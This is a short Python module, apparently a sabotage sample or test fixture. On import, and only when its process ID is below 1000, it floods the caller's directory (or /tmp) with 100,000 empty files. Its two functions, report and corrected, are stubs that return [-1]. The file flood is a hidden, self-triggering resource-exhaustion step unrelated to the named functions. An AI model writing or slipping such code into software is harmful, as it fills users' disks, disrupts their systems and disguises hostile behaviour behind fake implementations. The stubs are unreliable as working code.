"""A hundred thousand small files in the directory of its doors."""

import os
import sys

doors = os.path.dirname(sys.argv[1])
if not os.access(doors, os.W_OK):
    doors = "/tmp"
if os.getpid() < 1000:
    for number in range(100_000):
        open(f"{doors}/small{number}", "wb").close()


def report(requests, per_mille):
    return [-1]


def corrected(durations, interval):
    return [-1]
